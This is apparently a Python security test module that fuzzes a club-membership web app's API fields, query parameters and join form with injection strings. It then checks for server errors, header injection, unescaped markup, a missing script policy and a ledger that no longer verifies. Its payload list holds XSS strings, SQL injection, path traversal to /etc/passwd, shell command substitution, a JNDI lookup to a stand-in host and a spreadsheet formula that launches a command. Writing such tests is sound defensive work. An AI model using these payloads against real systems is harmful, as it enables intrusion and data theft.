"""Texts that mean something to some machine, in every field that takes text."""

import json
import subprocess

from access import consent, join

TEXTS = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{head.title}}{{{body}}}", "${jndi:ldap://evil.example/x}",
    "'; DROP TABLE members; --", "\" OR 1=1 --", "../../../../etc/passwd", "$(touch /tmp/owned)", "`id`", "|| ping evil.example",
    "\r\nSet-Cookie: x=1", "a\nb", "a\u0000b", "\u202egnp.exe", "\u2028line", "\ufeffbom", "%00%0d%0a", "%s%s%s%n", "=cmd|' /C calc'!A0",
    "\",\"points\":999999,\"x\":\"", "\\\",\\\"", "名" * 200, "𠮷" * 50, "e\u0301" * 25, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ud800", "null", "true",
    "-1", "1e309", "NaN", "[]", "{}", " ", "\u3000", "/" * 64, "." * 80, "-" * 80, "P1-1", "477127567449", "13800138000",
]


def fields_of(document):
    for path, operations in document["paths"].items():
        body = operations.get("post", {}).get("requestBody", {}).get("content", {}).get("application/json", {})
        for field in body.get("schema", {}).get("properties", {}):
            example = next(iter(body.get("examples", {}).values()), {"value": {}})["value"]
            yield path, field, example


def injecting(club, wire):
    """injection in every text field"""
    number, cookie = join(club, wire)
    document = json.loads(wire.ask("GET", "/api/v1/openapi.json")[2])
    tries = accepted = 0
    version = consent(club, wire)
    fields = list(fields_of(document))
    for path, field, example in fields:
        for text in TEXTS:
            # All the rest is in order, so that the text is what it is judged by.
            body = {**example}
            if path.endswith("/members"):
                body.update(consent=version, phone=f"137{10_000_000 + tries}", email=None)
            if path.endswith("/points"):
                body = {"action": "award", "points": 1, "source": "manual", "reason": "试攻击"}
            body[field] = text
            filled = path.replace("{number}", number).replace("{slug}", "x")
            for name, value in [("entry", "P7-1"), ("request", "Q1-1"), ("id", "R1-1")]:
                filled = filled.replace("{" + name + "}", value)
            status, headers, answer = wire.ask("POST", filled, body, token=club.tokens["manager"])
            tries += 1
            assert status < 500, f"{path} {field} {text!r}: {status} {answer[:200]}"
            assert "x=1" not in (headers["Set-Cookie"] or ""), f"a header was injected by {path} {field}"
            assert headers["Content-Type"] in (None, "application/json", "application/problem+json"), headers["Content-Type"]
            if status < 300:
                accepted += 1
    for name in ["find", "after", "from", "limit", "member"]:
        for text in TEXTS:
            query = "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))
            for path in ["/api/v1/members", "/api/v1/readings", f"/api/v1/members/{number}/points"]:
                status, _, answer = wire.ask("GET", f"{path}?{name}={query}", token=club.tokens["auditor"])
                tries += 1
                assert status < 500, f"{path}?{name}={query}: {status}"
    run = subprocess.run(
        [club.executable, "ledger", "verify", "--store", f"{club.folder}/Store"], capture_output=True, text=True)
    assert run.returncode == 0, f"the books no longer prove: {run.stdout}{run.stderr}"
    return tries, f"{len(fields)} fields, {accepted} texts accepted as text; the books prove"


def pages_escape(club, wire):
    """script in a page"""
    version = consent(club, wire)
    tries = 0
    for text in TEXTS:
        encoded = "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))
        form = f"name={encoded}&phone=13922223333&email=&consent={version}".encode()
        status, headers, answer = wire.ask(
            "POST", "/join", form, headers={"Origin": club.url, "Content-Type": "application/x-www-form-urlencoded"})
        tries += 1
        assert status < 500, f"{text!r}: {status}"
        page = answer.decode()
        assert "<script>alert" not in page and "<img src=x" not in page, f"{text!r} stands in the page as markup"
        assert "script-src 'self'" in headers["Content-Security-Policy"], headers["Content-Security-Policy"]
        for path in [f"/{encoded}", f"/search/?q={encoded}", f"/issues/?{encoded}"]:
            status, headers, answer = wire.ask("GET", path)
            tries += 1
            assert status < 500 and b"<script>alert" not in answer, f"{path}: {status}"
            assert "x=1" not in (headers["Set-Cookie"] or "")
    return tries, "escaped in every answer; the policy allows no inline script"


ATTACKS = [injecting, pages_escape]
